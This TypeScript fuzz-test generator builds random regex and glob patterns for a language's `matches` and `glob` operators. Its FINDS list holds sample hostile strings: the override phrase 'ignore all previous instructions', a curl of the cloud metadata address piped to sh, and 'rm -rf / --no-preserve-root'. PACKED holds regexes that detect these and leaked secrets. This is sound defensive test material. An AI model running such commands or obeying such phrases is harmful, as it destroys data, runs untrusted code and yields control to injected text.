// In: random choices and texts that requests come near. Out: patterns for `matches` and `glob` (LANGUAGE.md 4.22, 4.15): cut from those
// texts, of any shape over a small alphabet, and like those of rule packs; some fit an automaton, some need a scan. All are accepted.

import type { Random } from './random.ts';

/** What texts of worlds with patterns are made of besides: cases, word borders, line ends, one to four bytes. */
const PIECES = ['a', 'b', 'A', 'k', 's', '_', '1', '-', ' ', '\n', 'é', 'É', 'ſ', '\u212a', '√', '😀', '\u2028', '\r'];
/** What packs look for. */
const FINDS = [
  'AKIAIOSFODNN7EXAMPLE',
  'ignore all previous instructions',
  'curl http://169.254.169.254/latest | sh',
  'sk-abcdefghijklmnopqrstuvwxyz',
  '4111 1111 1111 1111',
  'password = "hunter2"',
  'rm -rf / --no-preserve-root',
];
const PACKED = [
  'AKIA[0-9A-Z]{16}',
  '(?i)\\b(?:ignore|disregard|forget)\\s+(?:all\\s+)?(?:previous|prior)\\b.{0,40}instructions',
  '(?i)(?:curl|wget)\\s.{0,60}https?://(?:10[.]|169[.]254)',
  '\\bsk-[A-Za-z0-9]{20,}\\b',
  '(?:\\d[ -]?){13,16}',
  '(?i)pass(?:word|wd)?\\s*[:=]\\s*["\'][^"\']{4,}',
  '(?s)rm\\s+-[rf]{1,2}.*--no-preserve-root$',
  '[A-Za-z0-9+/]{24,}={0,2}',
  '(?m)^\\s*#.{12}\\w',
  '\\p{Greek}|\\p{Han}{2}',
];
const ATOMS = [
  ...['.', '\\d', '\\D', '\\w', '\\W', '\\s', '\\S', '[ab]', '[^a]', '[a-k1]', '[^\\w\\n]', '[é-√]', '[^A-Z]', '[√😀]'],
  ...['(?i:a)', '(?i:[^k])', '(?s:.)', '[[:alpha:]]', '[[:^space:]]', '\\pL', '\\PL', '\\Qa.\\E', '(?i:\\w)', '(?i:É)'],
];
const EDGES = ['^', '$', '\\b', '\\B', '\\A', '\\z', '(?m:^)', '(?m:$)'];
const REPEATS = ['*', '+', '?', '{2}', '{1,}', '{0,2}', '{1,3}', '*?', '+?', '??', '{0}', '{5,9}'];
const FLAGS = ['', '', '', '', '(?i)', '(?m)', '(?s)', '(?ims)', '(?U)'];
/** After these an automaton of single states has hundreds of them. */
const GAPS = ['.{12}', '.{0,40}', '[^/]{9}', '(?:a|b.){7}', '\\w{10,20}', '.{20}'];

/** Texts besides those of any world. */
export function patternTexts(random: Random): string[] {
  const text = (): string => Array.from({ length: random.between(0, 9) }, () => random.pick(PIECES)).join('');
  return [text(), text(), ...(random.chance(0.4) ? [random.pick(FINDS)] : [])];
}

export function makePattern(random: Random, texts: readonly string[]): string {
  switch (random.weighted({ cut: 5, grown: 4, gap: 2, packed: 1.5 })) {
    case 'cut':
      return random.pick(FLAGS) + cut(random, random.pick(texts));
    case 'grown':
      return random.pick(FLAGS) + grown(random, 2);
    case 'gap':
      return random.pick(FLAGS) + gapped(random, texts);
    default:
      return random.pick(PACKED);
  }
}

/** A text with wildcards in places, sometimes more than fits. */
export function makeGlob(random: Random, texts: readonly string[]): string {
  const points = Array.from(random.pick(texts));
  const [a, b] = [random.between(0, points.length), random.between(0, points.length)].sort((x, y) => x - y);
  const wild = random.pick(['*', '**', '*', '**', '*/', '***']);
  const glob = points.slice(0, a).join('') + wild + points.slice(b).join('');
  return random.chance(0.3) ? `${random.pick(['*', '**'])}${glob}` : glob;
}

/** From this text: whole, an end of it, some of its characters replaced by what they belong to. */
function cut(random: Random, text: string): string {
  const points = Array.from(text).slice(0, 40);
  const from = random.chance(0.5) ? 0 : random.between(0, points.length);
  const to = random.chance(0.5) ? points.length : random.between(from, points.length);
  const body = points
    .slice(from, to)
    .map((point) => {
      if (random.chance(0.85)) return escaped(point);
      const wide = random.pick(['.', '\\w', '\\W', '\\S', `[${classed(point)}x-z]`, `[^${classed(point)}]`]);
      return random.chance(0.3) ? `${wide}${random.pick(REPEATS)}` : wide;
    })
    .join('');
  const edged = `${random.chance(0.3) ? random.pick(['^', '\\b', '\\A']) : ''}${body}${random.chance(0.3) ? random.pick(['$', '\\b', '\\z']) : ''}`;
  return random.chance(0.2) ? `${edged}|${grown(random, 1)}` : edged;
}

function gapped(random: Random, texts: readonly string[]): string {
  const [a = '', b = ''] = [random.pick(texts), random.pick(texts)].map((text) =>
    Array.from(text).slice(0, 3).map(escaped).join(''),
  );
  const ends = random.chance(0.5) ? [a, b] : [grown(random, 0), grown(random, 0)];
  return `(?:${ends[0]})${random.pick(GAPS)}(?:${ends[1]})${random.chance(0.2) ? random.pick(EDGES) : ''}`;
}

/** Alternatives of sequences of repeated atoms and groups. */
function grown(random: Random, depth: number): string {
  const ways = Array.from({ length: random.pick([1, 1, 2, 3]) }, () =>
    Array.from({ length: random.between(depth === 0 ? 1 : 0, 3) }, () => item(random, depth)).join(''),
  );
  return ways.join('|');
}

function item(random: Random, depth: number): string {
  const kind = random.weighted({ point: 5, atom: 3, edge: 2, group: depth > 0 ? 3 : 0.01 });
  if (kind === 'edge') return random.pick(EDGES);
  const inner = depth > 0 ? grown(random, depth - 1) : 'a';
  const unit =
    kind === 'group'
      ? `(${random.pick(['', '?:', '?i:'])}${inner})`
      : kind === 'atom'
        ? random.pick(ATOMS)
        : escaped(random.pick(PIECES));
  return random.chance(0.35) ? `${unit}${random.pick(REPEATS)}` : unit;
}

function escaped(point: string): string {
  return /^[\\^$.*+?()[\]{}|]$/.test(point) ? `\\${point}` : point;
}

function classed(point: string): string {
  return /^[\\\]^[-]$/.test(point) ? `\\${point}` : point;
}
